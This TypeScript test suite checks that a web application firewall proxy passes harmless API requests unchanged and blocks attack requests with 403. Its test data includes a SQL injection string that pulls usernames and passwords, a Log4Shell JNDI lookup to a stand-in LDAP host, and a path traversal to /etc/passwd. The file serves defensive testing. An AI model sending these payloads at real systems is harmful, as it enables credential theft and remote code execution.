import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { compile } from '@sallyport/seclang'
import type { NamedRuleSet } from '../waf/judge.ts'
import { loadRuleSet } from '../waf/load.ts'
import { bodyInspectBytesMax } from './bounds.ts'
import {
  type EdgeUnderTest,
  edgeUnderTest,
  type UpstreamUnderTest,
  until,
  upstreamUnderTest,
} from './edge-under-test.ts'

const core = loadRuleSet({ use: 'core', mode: 'block', profile: 'api', paranoia: null, before: [], after: [] })
let upstream: UpstreamUnderTest
let edge: EdgeUnderTest
before(async () => {
  upstream = await upstreamUnderTest()
  edge = await edgeUnderTest({ origin: upstream.origin, ruleSets: [core] })
})
after(async () => {
  await edge.stop()
  await upstream[Symbol.asyncDispose]()
})

const client = 'Host: api.example.test\r\nUser-Agent: client/1.0\r\nAccept: application/json\r\nConnection: close\r\n'
const get = (target: string, fields = ''): string => `GET ${target} HTTP/1.1\r\n${client}${fields}\r\n`
const post = (type: string, body: string, fields = ''): string =>
  `POST /api/orders HTTP/1.1\r\n${client}${fields}Content-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`
const json = 'application/json'

const benign: readonly { why: string; sends: string; target: string; body: string }[] = [
  {
    why: 'a list with filters',
    sends: get('/api/orders?per_page=25&status=approved&after_cursor=eyJpZCI6InBvXzEyMyJ9'),
    target: '/api/orders?per_page=25&status=approved&after_cursor=eyJpZCI6InBvXzEyMyJ9',
    body: '',
  },
  {
    why: 'a payment with names and free text',
    sends: post(json, `{"name":"Kenji O'Neill & Sons","memo":"select the best \xc3\xa9 -- from us"}`),
    target: '/api/orders',
    body: `{"name":"Kenji O'Neill & Sons","memo":"select the best \xc3\xa9 -- from us"}`,
  },
  {
    why: 'a body of bytes',
    sends: post('application/octet-stream', '\x00\xff\x80'),
    target: '/api/orders',
    body: '\x00\xff\x80',
  },
]
for (const { why, sends, target, body } of benign) {
  test(`${why} reaches the upstream byte for byte`, async () => {
    const decided = edge.log.length
    assert.match(await edge.talk(sends), /^HTTP\/1\.1 200 /)
    const arrived = upstream.arrived.at(-1)
    assert.deepEqual([arrived?.url, arrived?.body.toString('latin1')], [target, body])
    const { verdict, rules, detected, request, micros } = await edge.logged(decided)
    assert.deepEqual([verdict, rules, detected, request?.inspected], ['allow', [], null, body.length])
    assert.ok(micros.waf !== null && micros.waf > 0)
  })
}

const injection = "1' UNION SELECT username, password FROM users-- -"
const attacks: readonly { why: string; sends: string }[] = [
  { why: 'SQL injection in the query', sends: get(`/api/orders?id=${encodeURIComponent(injection)}`) },
  { why: 'SQL injection in a JSON body', sends: post(json, JSON.stringify({ order: { id: injection } })) },
  {
    why: 'SQL injection in a form',
    sends: post('application/x-www-form-urlencoded', `id=${encodeURIComponent(injection)}`),
  },
  { why: 'Log4Shell in a header', sends: get('/api/orders', 'X-Client: \x24{jndi:ldap://a.example/x}\r\n') },
  { why: 'a path traversal', sends: get('/api/files?name=../../../../etc/passwd') },
]
for (const { why, sends } of attacks) {
  test(`${why} is refused with 403 and never reaches the upstream`, async () => {
    const [arrived, decided] = [upstream.arrived.length, edge.log.length]
    const answer = await edge.talk(sends)
    const [head = '', body = ''] = answer.split('\r\n\r\n')
    assert.match(head, /^HTTP\/1\.1 403 /)
    assert.match(head, /content-type: application\/problem\+json/i)
    const { id, verdict, status, reason, rules } = await edge.logged(decided)
    assert.deepEqual([verdict, status, reason], ['block', 403, 'waf'])
    assert.ok(rules.length > 0)
    const problem = JSON.parse(body)
    assert.deepEqual([problem.type, problem.status, problem.id], ['urn:sallyport:waf', 403, id])
    for (const rule of rules) assert.ok(!answer.includes(String(rule)), 'a client is never told which rule it broke')
    assert.equal(upstream.arrived.length, arrived)
  })
}

function ruleSet(text: string, mode: 'detect' | 'block' = 'block'): NamedRuleSet {
  const readFile = (): never => assert.fail('no file is named')
  return { name: 'test', ruleSet: compile([{ file: 'test.conf', text }], { readFile, mode }).ruleSet }
}

test('what phase 1 refuses costs no byte of the body, and the client is not told to send it', async () => {
  const ruleSets = [ruleSet('SecRule REQUEST_HEADERS:X-Client "@streq evil" "id:1,phase:1,deny,log"\n')]
  await using own = await edgeUnderTest({ origin: 'http://127.0.0.1:1', ruleSets })
  const socket = own.connect()
  const fields = 'X-Client: evil\r\nExpect: 100-continue\r\nContent-Length: 1000000\r\n'
  socket.write(`POST /api/orders HTTP/1.1\r\n${client}${fields}\r\n`)
  assert.match(await until(socket, (text) => text.includes('\r\n\r\n')), /^HTTP\/1\.1 403 /)
  socket.destroy()
})

const statuses: readonly { rule: string; status: number }[] = [
  { rule: 'deny,status:418', status: 418 },
  { rule: 'deny,status:503', status: 503 },
  { rule: 'deny,status:200', status: 403 },
  { rule: 'drop', status: 403 },
  { rule: 'redirect:https://a.example/', status: 403 },
]
for (const { rule, status } of statuses) {
  test(`a rule that says ${rule} is answered ${status}`, async () => {
    const ruleSets = [ruleSet(`SecAction "id:1,phase:1,log,${rule}"\n`)]
    await using own = await edgeUnderTest({ origin: 'http://127.0.0.1:1', ruleSets })
    assert.ok((await own.talk(get('/'))).startsWith(`HTTP/1.1 ${status} `))
    const record = await own.logged(0)
    assert.deepEqual([record.verdict, record.reason, record.status], ['block', 'waf', status])
  })
}

test('a rule set in mode detect lets pass and tells what it would have done; phase 5 runs', async () => {
  const text = 'SecRule ARGS "@contains evil" "id:1,phase:2,deny,log"\nSecAction "id:2,phase:5,pass,log"\n'
  await using own = await edgeUnderTest({ origin: upstream.origin, ruleSets: [ruleSet(text, 'detect')] })
  assert.match(await own.talk(get('/?q=evil')), /^HTTP\/1\.1 200 /)
  const { verdict, reason, rules, detected } = await own.logged(0)
  assert.deepEqual([verdict, reason, rules], ['allow', null, [1, 2]])
  assert.deepEqual(detected, { verdict: 'block', reason: 'waf', rules: [1] })
})

test('phase 5 runs for a refused request too', async () => {
  const text = 'SecAction "id:1,phase:1,deny,log"\nSecAction "id:2,phase:5,pass,log"\n'
  await using own = await edgeUnderTest({ origin: 'http://127.0.0.1:1', ruleSets: [ruleSet(text)] })
  await own.talk(get('/'))
  assert.deepEqual((await own.logged(0)).rules, [1, 2])
})

test('more arguments than the engine reads are refused as protocol, never passed unread', async () => {
  const form = 'a=1&'.repeat(10_001)
  assert.match(await edge.talk(post('application/x-www-form-urlencoded', form)), /^HTTP\/1\.1 413 /)
  assert.equal(edge.log.at(-1)?.reason, 'protocol')
})

test('an attack at the end of the longest body is seen', async () => {
  const fits = '{"a":"","id":"1\' UNION SELECT a, b FROM users-- -"}'
  const body = fits.replace('""', `"${'x'.repeat(bodyInspectBytesMax - fits.length)}"`)
  assert.equal(body.length, bodyInspectBytesMax)
  assert.match(await edge.talk(post(json, body)), /^HTTP\/1\.1 403 /)
})

test('rules see the client’s address', async () => {
  const text = 'SecRule REMOTE_ADDR "@ipMatch 127.0.0.1" "id:1,phase:1,deny,log"\n'
  await using own = await edgeUnderTest({ origin: 'http://127.0.0.1:1', ruleSets: [ruleSet(text)] })
  assert.match(await own.talk(get('/')), /^HTTP\/1\.1 403 /)
})

const asSent: readonly { target: string; line: string; uri: string }[] = [
  { target: 'http://api.example.test', line: 'GET http://api.example.test HTTP/1.1', uri: '/' },
  { target: 'HTTP://API.example.test/a?b', line: 'GET HTTP://API.example.test/a?b HTTP/1.1', uri: '/a?b' },
  { target: '/a?b', line: 'GET /a?b HTTP/1.1', uri: '/a?b' },
]
for (const { target, line, uri } of asSent) {
  test(`the rules read the line of ${target} as it was sent, and the target as it is forwarded`, async () => {
    const raw = `SecRule REQUEST_URI_RAW "@streq ${target}" "id:2,phase:1,pass,log"\n`
    const text = `SecRule REQUEST_LINE "@streq ${line}" "id:1,phase:1,pass,log"\n${raw}`
    const ruleSets = [ruleSet(`${text}SecRule REQUEST_URI "@streq ${uri}" "id:3,phase:1,pass,log"\n`)]
    await using own = await edgeUnderTest({ origin: upstream.origin, ruleSets })
    assert.match(await own.talk(get(target)), /^HTTP\/1\.1 200 /)
    assert.deepEqual((await own.logged(0)).rules, [1, 2, 3])
    assert.equal(upstream.arrived.at(-1)?.url, uri)
  })
}
